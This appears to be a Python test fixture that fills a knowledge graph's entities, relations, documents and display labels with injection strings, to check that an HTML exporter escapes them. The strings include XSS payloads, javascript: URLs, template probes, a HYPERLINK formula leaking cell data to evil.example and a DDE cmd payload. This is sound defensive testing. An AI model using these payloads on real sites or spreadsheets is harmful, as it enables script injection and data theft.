"""A graph whose names, titles, quotes, ids and types are attacks."""

import datetime
from decimal import Decimal

from kg.export.html.appearance import Appearance, PredicateLook, TypeLook
from kg.graph.knowledge_graph import KnowledgeGraph
from kg.model.document import Document
from kg.model.entity import Entity, Knowledge, Observation, Occurrence, Relation, Source
from kg.model.fact import Evidence, Part
from kg.model.quantity import Period, Quantity
from kg.model.span import Span

ATTACKS = (
    "<script>window.__x=1</script>",
    "</script><script>window.__x=1</script>",
    "<img src=x onerror=window.__x=1>",
    '"><svg onload=window.__x=1>',
    "' onmouseover='window.__x=1",
    "javascript:window.__x=1",
    "]]><!--<script>window.__x=1</script>",
    "</style><script>window.__x=1</script>",
    "{{7*7}}{% raw %}${window.__x=1}",
    "\u2028window.__x=1\u2029//",
    "&lt;script&gt;window.__x=1&lt;/script&gt;",
    '<a href="javascript:window.__x=1">href</a>',
    '=HYPERLINK("http://evil.example/?"&A1)',
    '\\"-window.__x=1-\\"',
    "＝cmd|'/c calc'!A1",
    "\x00\x1b]0;\x07名\U000e0001",
    "\ud800孤",
)


def hostile_graph():
    """Every entity, relation, figure and document bears an attack wherever a text can stand."""
    documents = [
        Document(
            f"javascript:window.__x={i}//{attack}",
            f"{attack}在{attack}",
            attack,
            datetime.date(2024, 1, 1),
            f"javascript:{attack}",
        )
        for i, attack in enumerate(ATTACKS)
    ]
    entities = tuple(
        Entity(
            f"e{i:02d}{attack}",
            attack,
            attack,
            (attack + "别名",),
            (Occurrence(documents[i].id, Span(0, len(attack))),),
            (("site", f"javascript:{attack}"), (attack, attack)),
        )
        for i, attack in enumerate(ATTACKS)
    )
    relations, figures = [], []
    for i, attack in enumerate(ATTACKS):
        ends, span = (entities[i].id, entities[(i + 1) % len(ATTACKS)].id), Span(0, len(attack))
        source = Source(
            documents[i].id,
            Evidence(span, "test", attack, 1.0, ((Part.SUBJECT, span), (Part.CUE, Span(len(attack), len(attack) + 1)))),
        )
        relations.append(Relation(f"r{i:02d}{attack}", ends[0], attack, ends[1], (source,), role=attack))
        period = Period(end=datetime.date(2020 + i, 1, 1))
        figures += [
            Observation(f"o{i:02d}{n}{attack}", ends[0], attack, Quantity(Decimal(n), attack), (source,), period)
            for n in (1, 2)
        ]
    return KnowledgeGraph(Knowledge(entities, tuple(relations), tuple(figures)), documents)


def hostile_appearance():
    """Labels of types and predicates that are attacks, too."""
    types = {
        attack: TypeLook({"zh": attack, "en": attack}, "#0072B2", "dot", "javascript:window.__x=1")
        for attack in ATTACKS[:8]
    }
    return Appearance(types, {attack: PredicateLook({"zh": attack, "en": attack}) for attack in ATTACKS[:8]})
